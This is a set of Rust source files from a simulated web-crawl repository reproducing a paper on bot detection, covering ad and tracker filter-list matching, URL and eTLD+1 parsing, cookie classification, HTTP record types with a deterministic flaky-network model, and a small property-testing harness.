            url: Url::parse(target).unwrap(),
            page: Url::parse("https://site.example.com/").unwrap(),
            resource_type: ResourceType::Script,
            method: "GET",
            time_ms: 0,
        }
    }

    #[test]
    fn parses_and_matches_domain_anchors() {
        let list = Blocklist::parse(
            BlocklistKind::EasyList,
            "! comment\n||adnet.io^\n||moatads.com^\nsite.com##.ad-banner\n",
        );
        assert_eq!(list.rule_count(), 2);
        assert!(list.matches(&req("https://adnet.io/x.js")));
        assert!(list.matches(&req("https://cdn.adnet.io/x.js")));
        assert!(list.matches(&req("https://px.moatads.com/pixel")));
        assert!(!list.matches(&req("https://benign.org/x.js")));
    }

    #[test]
    fn matches_path_substrings() {
        let list = Blocklist::parse(BlocklistKind::EasyPrivacy, "/tracking-pixel.\n/beacon.js\n");
        assert!(list.matches(&req("https://any.org/assets/tracking-pixel.gif")));
        assert!(list.matches(&req("https://any.org/js/beacon.js")));
        assert!(!list.matches(&req("https://any.org/js/app.js")));
    }

    #[test]
    fn domain_anchor_does_not_match_superstrings() {
        let list = Blocklist::parse(BlocklistKind::EasyList, "||ads.com^");
        assert!(!list.matches(&req("https://notads.company.org/x")));
        assert!(!list.matches(&req("https://loads.com.safe.org/x")));
    }
}
