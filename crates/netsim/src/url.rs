//! URL parsing and eTLD+1 extraction.
//!
//! The paper identifies domains via the eTLD+1 scheme (Sec. 4.1.2): the
//! registrable domain one label below the effective TLD. A full public
//! suffix list is overkill for the synthetic population, so a compact set of
//! multi-label suffixes covers the generated and hand-written hostnames.

use std::fmt;

/// A parsed URL (scheme://host/path?query).
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub struct Url {
    pub scheme: String,
    pub host: String,
    pub path: String,
    pub query: String,
}

/// Multi-label public suffixes recognised by [`Url::etld1`]. Everything else
/// is treated as a single-label suffix (`com`, `org`, `ru`, …).
const MULTI_LABEL_SUFFIXES: &[&str] = &[
    "co.uk", "org.uk", "ac.uk", "gov.uk", "com.au", "net.au", "org.au", "co.jp", "or.jp",
    "com.br", "com.cn", "com.tr", "com.mx", "co.in", "co.kr", "com.ar", "co.za", "com.tw",
    "github.io",
];

impl Url {
    /// Parse a URL string. Accepts scheme-relative (`//host/...`) and
    /// path-only inputs resolved against `https`/empty host.
    pub fn parse(input: &str) -> Option<Url> {
        let input = input.trim();
        if input.is_empty() {
            return None;
        }
        let (scheme, rest) = match input.find("://") {
            Some(i) => (&input[..i], &input[i + 3..]),
            None => match input.strip_prefix("//") {
                Some(rest) => ("https", rest),
                None => return None,
            },
        };
        let (hostpath, query) = match rest.find('?') {
            Some(i) => (&rest[..i], &rest[i + 1..]),
            None => (rest, ""),
        };
        let (host, path) = match hostpath.find('/') {
            Some(i) => (&hostpath[..i], &hostpath[i..]),
            None => (hostpath, "/"),
        };
        if host.is_empty() {
            return None;
        }
        Some(Url {
            scheme: scheme.to_ascii_lowercase(),
            host: host.to_ascii_lowercase(),
            path: path.to_owned(),
            query: query.to_owned(),
        })
    }

    /// The registrable domain (eTLD+1) of the host.
    ///
    /// `www.news.example.co.uk` → `example.co.uk`;
    /// `cdn.tracker.com` → `tracker.com`.
    pub fn etld1(&self) -> String {
        etld1_of(&self.host)
    }

    /// True when `other` belongs to the same registrable domain.
    pub fn same_site(&self, other: &Url) -> bool {
        self.etld1() == other.etld1()
    }

    /// The final path segment (used by URL-pattern clustering, Appx. A).
    pub fn filename(&self) -> &str {
        self.path.rsplit('/').next().unwrap_or("")
    }
}

/// eTLD+1 of a bare hostname.
pub fn etld1_of(host: &str) -> String {
    let host = host.to_ascii_lowercase();
    let labels: Vec<&str> = host.split('.').collect();
    if labels.len() <= 2 {
        return host;
    }
    for suffix in MULTI_LABEL_SUFFIXES {
        if host.ends_with(suffix) {
            let suffix_labels = suffix.split('.').count();
            if labels.len() > suffix_labels {
                return labels[labels.len() - suffix_labels - 1..].join(".");
            }
            return host;
        }
    }
    labels[labels.len() - 2..].join(".")
}

impl fmt::Display for Url {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}://{}{}", self.scheme, self.host, self.path)?;
        if !self.query.is_empty() {
            write!(f, "?{}", self.query)?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_full_url() {
        let u = Url::parse("https://www.example.com/a/b.js?x=1").unwrap();
        assert_eq!(u.scheme, "https");
        assert_eq!(u.host, "www.example.com");
        assert_eq!(u.path, "/a/b.js");
        assert_eq!(u.query, "x=1");
        assert_eq!(u.filename(), "b.js");
    }

    #[test]
    fn parse_defaults() {
        let u = Url::parse("http://host").unwrap();
        assert_eq!(u.path, "/");
        assert!(Url::parse("").is_none());
        assert!(Url::parse("not a url").is_none());
        let schemeless = Url::parse("//cdn.x.com/lib.js").unwrap();
        assert_eq!(schemeless.scheme, "https");
    }

    #[test]
    fn etld1_basic() {
        assert_eq!(etld1_of("www.example.com"), "example.com");
        assert_eq!(etld1_of("example.com"), "example.com");
        assert_eq!(etld1_of("a.b.c.tracker.net"), "tracker.net");
        assert_eq!(etld1_of("com"), "com");
    }

    #[test]
    fn etld1_multi_label_suffixes() {
        assert_eq!(etld1_of("www.example.co.uk"), "example.co.uk");
        assert_eq!(etld1_of("example.co.uk"), "example.co.uk");
        assert_eq!(etld1_of("user.github.io"), "user.github.io");
        assert_eq!(etld1_of("deep.sub.example.com.au"), "example.com.au");
    }

    #[test]
    fn same_site_comparisons() {
        let a = Url::parse("https://www.shop.example.com/").unwrap();
        let b = Url::parse("https://cdn.example.com/x.js").unwrap();
        let c = Url::parse("https://tracker.io/t.js").unwrap();
        assert!(a.same_site(&b));
        assert!(!a.same_site(&c));
    }

    #[test]
    fn display_roundtrip() {
        let s = "https://example.com/a?b=c";
        assert_eq!(Url::parse(s).unwrap().to_string(), s);
    }

    #[test]
    fn host_case_insensitive() {
        assert_eq!(Url::parse("https://ExAmPle.COM/").unwrap().host, "example.com");
    }
}
