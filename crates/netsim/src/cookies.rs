//! Cookie records and jars.
//!
//! Table 10 of the paper counts first-party, third-party and *tracking*
//! cookies per client. The tracking classifier (Englehardt et al. as refined
//! by Chen et al.) needs per-cookie expiry, length and cross-run value
//! stability — all carried here; the classifier itself lives in
//! `gullible::compare::cookies` because it needs the Ratcliff-Obershelp
//! similarity from the `stats` crate.

use crate::url::etld1_of;

/// First- or third-party attribution of a cookie with respect to the page
/// that was being visited when it was set.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum CookieParty {
    First,
    Third,
}

/// One cookie as served during a visit.
#[derive(Clone, Debug, PartialEq)]
pub struct Cookie {
    pub name: String,
    pub value: String,
    /// Host that set the cookie.
    pub domain: String,
    /// Page (eTLD+1) being visited when it was set.
    pub page_domain: String,
    /// Expiry as seconds from the time it was set; `None` = session cookie.
    pub expires_in_s: Option<u64>,
}

impl Cookie {
    pub fn party(&self) -> CookieParty {
        if etld1_of(&self.domain) == etld1_of(&self.page_domain) {
            CookieParty::First
        } else {
            CookieParty::Third
        }
    }

    pub fn is_session(&self) -> bool {
        self.expires_in_s.is_none()
    }

    /// "Long-living" in the sense of the tracking classifier: at least
    /// three months of lifetime.
    pub fn is_long_living(&self) -> bool {
        const THREE_MONTHS_S: u64 = 90 * 24 * 3600;
        self.expires_in_s.is_some_and(|s| s >= THREE_MONTHS_S)
    }

    /// Value length excluding surrounding quotes (classifier criterion 2).
    pub fn effective_len(&self) -> usize {
        self.value.trim_matches('"').chars().count()
    }
}

/// A per-client cookie store accumulating everything served over a crawl.
#[derive(Clone, Debug, Default)]
pub struct CookieJar {
    cookies: Vec<Cookie>,
}

impl CookieJar {
    pub fn new() -> CookieJar {
        CookieJar::default()
    }

    pub fn store(&mut self, cookie: Cookie) {
        self.cookies.push(cookie);
    }

    pub fn all(&self) -> &[Cookie] {
        &self.cookies
    }

    pub fn len(&self) -> usize {
        self.cookies.len()
    }

    pub fn is_empty(&self) -> bool {
        self.cookies.is_empty()
    }

    pub fn count_party(&self, party: CookieParty) -> usize {
        self.cookies.iter().filter(|c| c.party() == party).count()
    }

    /// Look up a cookie by (domain, name) — used by the cross-run stability
    /// check of the tracking classifier.
    pub fn find(&self, domain: &str, name: &str) -> Option<&Cookie> {
        self.cookies.iter().find(|c| c.domain == domain && c.name == name)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cookie(domain: &str, page: &str, expires: Option<u64>) -> Cookie {
        Cookie {
            name: "id".into(),
            value: "abcdef0123456789".into(),
            domain: domain.into(),
            page_domain: page.into(),
            expires_in_s: expires,
        }
    }

    #[test]
    fn party_classification_uses_etld1() {
        assert_eq!(cookie("shop.example.com", "example.com", None).party(), CookieParty::First);
        assert_eq!(cookie("tracker.io", "example.com", None).party(), CookieParty::Third);
    }

    #[test]
    fn lifetime_classification() {
        assert!(cookie("a.com", "a.com", None).is_session());
        assert!(!cookie("a.com", "a.com", Some(3600)).is_long_living());
        assert!(cookie("a.com", "a.com", Some(180 * 24 * 3600)).is_long_living());
    }

    #[test]
    fn effective_len_strips_quotes() {
        let mut c = cookie("a.com", "a.com", None);
        c.value = "\"12345678\"".into();
        assert_eq!(c.effective_len(), 8);
    }

    #[test]
    fn jar_counting_and_lookup() {
        let mut jar = CookieJar::new();
        jar.store(cookie("a.com", "a.com", None));
        jar.store(cookie("t.io", "a.com", Some(1)));
        assert_eq!(jar.len(), 2);
        assert_eq!(jar.count_party(CookieParty::First), 1);
        assert_eq!(jar.count_party(CookieParty::Third), 1);
        assert!(jar.find("t.io", "id").is_some());
        assert!(jar.find("t.io", "nope").is_none());
    }
}
