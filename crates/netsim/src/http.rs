//! HTTP request/response records and the `webRequest` resource taxonomy.

use std::fmt;

use crate::url::Url;

/// Resource types as exposed by Firefox's `webRequest` API — the grouping of
/// Table 8 in the paper. `CspReport` is load-bearing: vanilla OpenWPM's DOM
/// injection triggers `script-src` violations whose reports show up in this
/// bucket, and the hardened client eliminates them (Sec. 6.3.1).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum ResourceType {
    MainFrame,
    SubFrame,
    Script,
    Image,
    ImageSet,
    Stylesheet,
    Font,
    Media,
    Object,
    XmlHttpRequest,
    Beacon,
    WebSocket,
    CspReport,
    Other,
}

impl ResourceType {
    /// The `webRequest` string name (used when printing Table 8).
    pub fn as_str(&self) -> &'static str {
        match self {
            ResourceType::MainFrame => "main_frame",
            ResourceType::SubFrame => "sub_frame",
            ResourceType::Script => "script",
            ResourceType::Image => "image",
            ResourceType::ImageSet => "imageset",
            ResourceType::Stylesheet => "stylesheet",
            ResourceType::Font => "font",
            ResourceType::Media => "media",
            ResourceType::Object => "object",
            ResourceType::XmlHttpRequest => "xmlhttprequest",
            ResourceType::Beacon => "beacon",
            ResourceType::WebSocket => "websocket",
            ResourceType::CspReport => "csp_report",
            ResourceType::Other => "other",
        }
    }

    /// All variants, in a stable order.
    pub fn all() -> &'static [ResourceType] {
        &[
            ResourceType::CspReport,
            ResourceType::Media,
            ResourceType::Beacon,
            ResourceType::WebSocket,
            ResourceType::XmlHttpRequest,
            ResourceType::ImageSet,
            ResourceType::Font,
            ResourceType::Object,
            ResourceType::MainFrame,
            ResourceType::Image,
            ResourceType::Script,
            ResourceType::SubFrame,
            ResourceType::Other,
            ResourceType::Stylesheet,
        ]
    }
}

impl fmt::Display for ResourceType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One observed HTTP request.
#[derive(Clone, Debug)]
pub struct HttpRequest {
    pub url: Url,
    /// The top-level page the request belongs to.
    pub page: Url,
    pub resource_type: ResourceType,
    pub method: &'static str,
    /// Virtual time of the request (ms since crawl start).
    pub time_ms: u64,
}

impl HttpRequest {
    /// Third-party request: target eTLD+1 differs from the page's.
    pub fn is_third_party(&self) -> bool {
        !self.url.same_site(&self.page)
    }
}

/// One observed HTTP response.
#[derive(Clone, Debug)]
pub struct HttpResponse {
    pub url: Url,
    pub status: u16,
    /// `Content-Type` header value.
    pub content_type: String,
    /// Response body (script text for scripts; placeholder for media).
    pub body: String,
}

impl HttpResponse {
    /// Does this response *look like* JavaScript to a filter that trusts
    /// headers and extensions? The silent-delivery attack (paper Sec. 5.4.2,
    /// Listing 4) serves JS that fails both checks.
    pub fn looks_like_javascript(&self) -> bool {
        self.content_type.contains("javascript") || self.url.path.ends_with(".js")
    }

    /// 2xx success — the only responses whose data a crawler should treat
    /// as a completed page load.
    pub fn is_success(&self) -> bool {
        (200..300).contains(&self.status)
    }

    /// A transient `503 Service Unavailable` answer — what the fault
    /// injector's flaky-HTTP mode serves in place of the real page.
    pub fn service_unavailable(url: Url) -> HttpResponse {
        HttpResponse {
            url,
            status: 503,
            content_type: "text/html".into(),
            body: "<html><body>503 Service Unavailable</body></html>".into(),
        }
    }
}

/// Deterministic transient-failure model for the simulated transport: a
/// per-mille rate and a seed decide, per `(url, attempt)`, whether a fetch
/// answers 503 instead of its real response. Stateless, so outcomes never
/// depend on request ordering or worker scheduling.
#[derive(Clone, Copy, Debug)]
pub struct FlakyNetwork {
    pub per_mille: u32,
    pub seed: u64,
}

impl FlakyNetwork {
    pub fn new(per_mille: u32, seed: u64) -> FlakyNetwork {
        FlakyNetwork { per_mille, seed }
    }

    /// Does the fetch of `url` fail transiently on this attempt?
    pub fn fails(&self, url: &Url, attempt: u32) -> bool {
        if self.per_mille == 0 {
            return false;
        }
        let mut h = self.seed ^ (attempt as u64).wrapping_mul(0xD6E8_FEB8_6659_FD93);
        for b in url.to_string().bytes() {
            h = (h ^ b as u64).wrapping_mul(0x100_0000_01B3);
        }
        h = h.wrapping_add(0x9E37_79B9_7F4A_7C15);
        h = (h ^ (h >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        h = (h ^ (h >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        h ^= h >> 31;
        (h % 1000) < self.per_mille as u64
    }

    /// The response for `url`: `real` on success, a 503 on failure.
    pub fn respond(&self, url: &Url, attempt: u32, real: HttpResponse) -> HttpResponse {
        obs::add("netsim.responses", 1);
        if self.fails(url, attempt) {
            obs::add("netsim.failures.transient", 1);
            obs::emit(
                obs::Event::new(0, "net_failure")
                    .attr("url", url.to_string())
                    .attr("attempt", attempt),
            );
            HttpResponse::service_unavailable(url.clone())
        } else {
            real
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn url(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    #[test]
    fn resource_type_names_match_webrequest() {
        assert_eq!(ResourceType::CspReport.as_str(), "csp_report");
        assert_eq!(ResourceType::XmlHttpRequest.as_str(), "xmlhttprequest");
        assert_eq!(ResourceType::all().len(), 14);
    }

    #[test]
    fn third_party_detection() {
        let req = HttpRequest {
            url: url("https://tracker.io/pixel.gif"),
            page: url("https://news.example.com/"),
            resource_type: ResourceType::Image,
            method: "GET",
            time_ms: 0,
        };
        assert!(req.is_third_party());
        let own = HttpRequest {
            url: url("https://static.example.com/app.js"),
            page: url("https://news.example.com/"),
            resource_type: ResourceType::Script,
            method: "GET",
            time_ms: 0,
        };
        assert!(!own.is_third_party());
    }

    #[test]
    fn javascript_detection_by_header_or_extension() {
        let by_header = HttpResponse {
            url: url("https://x.com/code"),
            status: 200,
            content_type: "text/javascript".into(),
            body: String::new(),
        };
        assert!(by_header.looks_like_javascript());
        let by_ext = HttpResponse {
            url: url("https://x.com/lib.js"),
            status: 200,
            content_type: "text/plain".into(),
            body: String::new(),
        };
        assert!(by_ext.looks_like_javascript());
        let stealth = HttpResponse {
            url: url("https://x.com/cheat"),
            status: 200,
            content_type: "text/plain".into(),
            body: "window.secret()".into(),
        };
        assert!(!stealth.looks_like_javascript());
    }

    #[test]
    fn service_unavailable_is_not_success() {
        let resp = HttpResponse::service_unavailable(url("https://w000001.com/"));
        assert_eq!(resp.status, 503);
        assert!(!resp.is_success());
        let ok = HttpResponse {
            url: url("https://w000001.com/"),
            status: 200,
            content_type: "text/html".into(),
            body: String::new(),
        };
        assert!(ok.is_success());
    }

    #[test]
    fn flaky_network_is_deterministic_and_rate_bound() {
        let net = FlakyNetwork::new(100, 7);
        let mut failures = 0;
        for i in 0..10_000 {
            let u = url(&format!("https://w{i:06}.com/"));
            assert_eq!(net.fails(&u, 1), net.fails(&u, 1));
            if net.fails(&u, 1) {
                failures += 1;
            }
        }
        // 10% ± generous tolerance.
        assert!((800..=1200).contains(&failures), "failures = {failures}");
        // Zero rate never fails; retries can clear a failure.
        let quiet = FlakyNetwork::new(0, 7);
        assert!(!quiet.fails(&url("https://a.com/"), 1));
        let some_recovers = (0..1000).any(|i| {
            let u = url(&format!("https://w{i:06}.com/"));
            net.fails(&u, 1) && !net.fails(&u, 2)
        });
        assert!(some_recovers);
    }

    #[test]
    fn flaky_network_respond_swaps_in_503() {
        let net = FlakyNetwork::new(1000, 1); // always fails
        let u = url("https://w000001.com/");
        let real = HttpResponse {
            url: u.clone(),
            status: 200,
            content_type: "text/html".into(),
            body: "hello".into(),
        };
        let got = net.respond(&u, 1, real.clone());
        assert_eq!(got.status, 503);
        let calm = FlakyNetwork::new(0, 1);
        assert_eq!(calm.respond(&u, 1, real).status, 200);
    }
}
