//! HTTP request/response records and the `webRequest` resource taxonomy.

use std::fmt;

use crate::url::Url;

/// Resource types as exposed by Firefox's `webRequest` API — the grouping of
/// Table 8 in the paper. `CspReport` is load-bearing: vanilla OpenWPM's DOM
/// injection triggers `script-src` violations whose reports show up in this
/// bucket, and the hardened client eliminates them (Sec. 6.3.1).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum ResourceType {
    MainFrame,
    SubFrame,
    Script,
    Image,
    ImageSet,
    Stylesheet,
    Font,
    Media,
    Object,
    XmlHttpRequest,
    Beacon,
    WebSocket,
    CspReport,
    Other,
}

impl ResourceType {
    /// The `webRequest` string name (used when printing Table 8).
    pub fn as_str(&self) -> &'static str {
        match self {
            ResourceType::MainFrame => "main_frame",
            ResourceType::SubFrame => "sub_frame",
            ResourceType::Script => "script",
            ResourceType::Image => "image",
            ResourceType::ImageSet => "imageset",
            ResourceType::Stylesheet => "stylesheet",
            ResourceType::Font => "font",
            ResourceType::Media => "media",
            ResourceType::Object => "object",
            ResourceType::XmlHttpRequest => "xmlhttprequest",
            ResourceType::Beacon => "beacon",
            ResourceType::WebSocket => "websocket",
            ResourceType::CspReport => "csp_report",
            ResourceType::Other => "other",
        }
    }

    /// All variants, in a stable order.
    pub fn all() -> &'static [ResourceType] {
        &[
            ResourceType::CspReport,
            ResourceType::Media,
            ResourceType::Beacon,
            ResourceType::WebSocket,
            ResourceType::XmlHttpRequest,
            ResourceType::ImageSet,
            ResourceType::Font,
            ResourceType::Object,
            ResourceType::MainFrame,
            ResourceType::Image,
            ResourceType::Script,
            ResourceType::SubFrame,
            ResourceType::Other,
            ResourceType::Stylesheet,
        ]
    }
}

impl fmt::Display for ResourceType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One observed HTTP request.
#[derive(Clone, Debug)]
pub struct HttpRequest {
    pub url: Url,
    /// The top-level page the request belongs to.
    pub page: Url,
    pub resource_type: ResourceType,
    pub method: &'static str,
    /// Virtual time of the request (ms since crawl start).
    pub time_ms: u64,
}

impl HttpRequest {
    /// Third-party request: target eTLD+1 differs from the page's.
    pub fn is_third_party(&self) -> bool {
        !self.url.same_site(&self.page)
    }
}

/// One observed HTTP response.
#[derive(Clone, Debug)]
pub struct HttpResponse {
    pub url: Url,
    pub status: u16,
    /// `Content-Type` header value.
    pub content_type: String,
    /// Response body (script text for scripts; placeholder for media).
    pub body: String,
}

impl HttpResponse {
    /// Does this response *look like* JavaScript to a filter that trusts
    /// headers and extensions? The silent-delivery attack (paper Sec. 5.4.2,
    /// Listing 4) serves JS that fails both checks.
    pub fn looks_like_javascript(&self) -> bool {
        self.content_type.contains("javascript") || self.url.path.ends_with(".js")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn url(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    #[test]
    fn resource_type_names_match_webrequest() {
        assert_eq!(ResourceType::CspReport.as_str(), "csp_report");
        assert_eq!(ResourceType::XmlHttpRequest.as_str(), "xmlhttprequest");
        assert_eq!(ResourceType::all().len(), 14);
    }

    #[test]
    fn third_party_detection() {
        let req = HttpRequest {
            url: url("https://tracker.io/pixel.gif"),
            page: url("https://news.example.com/"),
            resource_type: ResourceType::Image,
            method: "GET",
            time_ms: 0,
        };
        assert!(req.is_third_party());
        let own = HttpRequest {
            url: url("https://static.example.com/app.js"),
            page: url("https://news.example.com/"),
            resource_type: ResourceType::Script,
            method: "GET",
            time_ms: 0,
        };
        assert!(!own.is_third_party());
    }

    #[test]
    fn javascript_detection_by_header_or_extension() {
        let by_header = HttpResponse {
            url: url("https://x.com/code"),
            status: 200,
            content_type: "text/javascript".into(),
            body: String::new(),
        };
        assert!(by_header.looks_like_javascript());
        let by_ext = HttpResponse {
            url: url("https://x.com/lib.js"),
            status: 200,
            content_type: "text/plain".into(),
            body: String::new(),
        };
        assert!(by_ext.looks_like_javascript());
        let stealth = HttpResponse {
            url: url("https://x.com/cheat"),
            status: 200,
            content_type: "text/plain".into(),
            body: "window.secret()".into(),
        };
        assert!(!stealth.looks_like_javascript());
    }
}
