//! # netsim — HTTP, cookie and URL simulation
//!
//! The reproduction's "web" is in-process: sites are generated data
//! structures and a page visit produces [`HttpRequest`]/[`HttpResponse`]
//! records rather than packets. This crate provides the vocabulary types for
//! that traffic, plus the pieces of the paper's evaluation that operate on
//! traffic:
//!
//! * [`url::Url`] and eTLD+1 extraction (the paper's Sec. 4.1.2 uses the
//!   eTLD+1 scheme to identify domains and classify first vs third parties);
//! * [`http::ResourceType`] matching the `webRequest` resource types that
//!   Table 8 groups traffic by (`csp_report`, `beacon`, `sub_frame`, …);
//! * [`cookies`] — cookie records and jars with expiry and first/third-party
//!   attribution, feeding Table 10;
//! * [`blocklist`] — EasyList/EasyPrivacy-style filter lists used to count
//!   ad/tracker requests for Table 9.
//!
//! Nothing here does real I/O; determinism of the crawl is the point.

pub mod blocklist;
pub mod cookies;
pub mod http;
pub mod url;
pub mod wire;

pub use blocklist::{Blocklist, BlocklistKind};
pub use cookies::{Cookie, CookieJar, CookieParty};
pub use http::{FlakyNetwork, HttpRequest, HttpResponse, ResourceType};
pub use url::Url;
pub use wire::ResponseSummary;
