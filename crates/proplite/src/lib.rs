//! # proplite — a minimal deterministic property-testing harness
//!
//! The repository builds in fully offline environments, so it cannot pull
//! `proptest` from a registry. This crate provides the small slice of
//! property-based testing the test-suites actually use: a seeded
//! [`Rng`] with generators for the common value shapes, and [`run_cases`],
//! which executes a property closure across many generated cases and
//! reports the failing case's seed so it can be replayed.
//!
//! Everything is deterministic: the same harness seed always generates the
//! same case sequence, so failures reproduce without shrinking.

/// SplitMix64 — a tiny, high-quality, seedable generator.
#[derive(Clone, Debug)]
pub struct Rng {
    state: u64,
}

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng { state: seed ^ 0x9E37_79B9_7F4A_7C15 }
    }

    pub fn next_u64(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut x = self.state;
        x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        x = (x ^ (x >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        x ^ (x >> 31)
    }

    /// Uniform draw in `[lo, hi)`. Panics when the range is empty.
    pub fn u64_in(&mut self, lo: u64, hi: u64) -> u64 {
        assert!(lo < hi, "empty range {lo}..{hi}");
        lo + self.next_u64() % (hi - lo)
    }

    pub fn usize_in(&mut self, lo: usize, hi: usize) -> usize {
        self.u64_in(lo as u64, hi as u64) as usize
    }

    pub fn u32_in(&mut self, lo: u32, hi: u32) -> u32 {
        self.u64_in(lo as u64, hi as u64) as u32
    }

    pub fn i64_in(&mut self, lo: i64, hi: i64) -> i64 {
        assert!(lo < hi, "empty range {lo}..{hi}");
        lo.wrapping_add((self.next_u64() % (hi.wrapping_sub(lo)) as u64) as i64)
    }

    /// Uniform draw in `[lo, hi)` over f64.
    pub fn f64_in(&mut self, lo: f64, hi: f64) -> f64 {
        let unit = (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64;
        lo + unit * (hi - lo)
    }

    pub fn bool(&mut self) -> bool {
        self.next_u64() & 1 == 1
    }

    /// A string of `min..=max` chars drawn from `alphabet`.
    pub fn string_of(&mut self, alphabet: &str, min: usize, max: usize) -> String {
        let chars: Vec<char> = alphabet.chars().collect();
        let len = self.usize_in(min, max + 1);
        (0..len).map(|_| chars[self.usize_in(0, chars.len())]).collect()
    }

    /// A printable-ASCII string (the `[ -~]{min,max}` regex class).
    pub fn ascii(&mut self, min: usize, max: usize) -> String {
        let len = self.usize_in(min, max + 1);
        (0..len).map(|_| char::from(self.u32_in(0x20, 0x7F) as u8)).collect()
    }

    /// An "anything" string (the `.{min,max}` strategy): printable ASCII
    /// mixed with control characters and non-ASCII code points.
    pub fn any_string(&mut self, min: usize, max: usize) -> String {
        let len = self.usize_in(min, max + 1);
        (0..len)
            .map(|_| match self.u64_in(0, 10) {
                0 => char::from(self.u32_in(0x00, 0x20) as u8), // control
                1 => char::from_u32(self.u32_in(0xA0, 0x2FF)).unwrap_or('¿'),
                2 => char::from_u32(self.u32_in(0x4E00, 0x4F00)).unwrap_or('漢'),
                _ => char::from(self.u32_in(0x20, 0x7F) as u8),
            })
            .collect()
    }

    /// `count` *distinct* strings over `alphabet` (a hash-set strategy).
    pub fn distinct_strings(
        &mut self,
        alphabet: &str,
        min_len: usize,
        max_len: usize,
        min_count: usize,
        max_count: usize,
    ) -> Vec<String> {
        let want = self.usize_in(min_count, max_count + 1);
        let mut out: Vec<String> = Vec::new();
        let mut guard = 0;
        while out.len() < want && guard < want * 50 {
            guard += 1;
            let s = self.string_of(alphabet, min_len, max_len);
            if !s.is_empty() && !out.contains(&s) {
                out.push(s);
            }
        }
        out
    }

    /// A vector of f64 draws.
    pub fn vec_f64(&mut self, lo: f64, hi: f64, min: usize, max: usize) -> Vec<f64> {
        let len = self.usize_in(min, max + 1);
        (0..len).map(|_| self.f64_in(lo, hi)).collect()
    }

    /// `count` distinct i64 draws in `[lo, hi)`.
    pub fn distinct_i64(&mut self, lo: i64, hi: i64, min: usize, max: usize) -> Vec<i64> {
        let want = self.usize_in(min, max + 1);
        let mut out = Vec::new();
        let mut guard = 0;
        while out.len() < want && guard < want * 50 {
            guard += 1;
            let v = self.i64_in(lo, hi);
            if !out.contains(&v) {
                out.push(v);
            }
        }
        out
    }
}

/// Run `property` across `cases` generated cases. Each case gets an [`Rng`]
/// derived from `(seed, case index)`; a panic inside the property is
/// augmented with the case index so it can be replayed with
/// `Rng::new(seed ^ index)`.
pub fn run_cases(cases: usize, seed: u64, mut property: impl FnMut(&mut Rng)) {
    for case in 0..cases {
        let case_seed = seed ^ (case as u64).wrapping_mul(0xA076_1D64_78BD_642F);
        let mut rng = Rng::new(case_seed);
        let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            property(&mut rng);
        }));
        if let Err(payload) = outcome {
            let msg = payload
                .downcast_ref::<String>()
                .map(String::as_str)
                .or_else(|| payload.downcast_ref::<&str>().copied())
                .unwrap_or("<non-string panic>");
            panic!("property failed at case {case} (seed {case_seed:#x}): {msg}");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_sequences() {
        let mut a = Rng::new(7);
        let mut b = Rng::new(7);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
    }

    #[test]
    fn ranges_respected() {
        let mut rng = Rng::new(1);
        for _ in 0..1000 {
            let v = rng.u64_in(10, 20);
            assert!((10..20).contains(&v));
            let f = rng.f64_in(-1.0, 1.0);
            assert!((-1.0..1.0).contains(&f));
            let i = rng.i64_in(-5, 5);
            assert!((-5..5).contains(&i));
        }
    }

    #[test]
    fn strings_use_alphabet() {
        let mut rng = Rng::new(2);
        for _ in 0..100 {
            let s = rng.string_of("abc", 0, 10);
            assert!(s.len() <= 10);
            assert!(s.chars().all(|c| "abc".contains(c)));
        }
    }

    #[test]
    fn distinct_strings_are_distinct() {
        let mut rng = Rng::new(3);
        let v = rng.distinct_strings("abcdefgh", 1, 8, 1, 10);
        let mut sorted = v.clone();
        sorted.sort();
        sorted.dedup();
        assert_eq!(sorted.len(), v.len());
    }

    #[test]
    fn failing_case_reports_index() {
        let err = std::panic::catch_unwind(|| {
            run_cases(10, 42, |rng| {
                let x = rng.u64_in(0, 100);
                assert!(x < 1000, "impossible");
                panic!("boom at {x}");
            });
        })
        .unwrap_err();
        let msg = err.downcast_ref::<String>().unwrap();
        assert!(msg.contains("property failed at case 0"), "{msg}");
    }
}
