//! A small-scale "in the wild" scan: crawl the top slice of the synthetic
//! Tranco population with the scanning client and classify bot detectors
//! with the combined static + dynamic pipeline (paper Sec. 4).
//!
//! Run with: `cargo run --release --example wild_scan -p gullible`

#![deny(deprecated)]

use gullible::report::pct;
use gullible::{Scan, ScanConfig};

fn main() {
    let n = 3_000;
    println!("scanning {n} synthetic sites (front page + up to 3 subpages each)…\n");
    let report = Scan::new(ScanConfig::new(n, 42)).run().expect("scan");

    let [(si, st), (di, dt), (ui, ut)] = report.table5();
    println!("sites with Selenium detectors (front + subpages):");
    println!("  static   identified {si:>5}   without false positives {st:>5}");
    println!("  dynamic  identified {di:>5}   without inconclusive    {dt:>5}");
    println!("  union    identified {ui:>5}   true detectors          {ut:>5}");
    println!(
        "  → {} of sites run bot detection (paper: 18.7% of the Tranco 100K)\n",
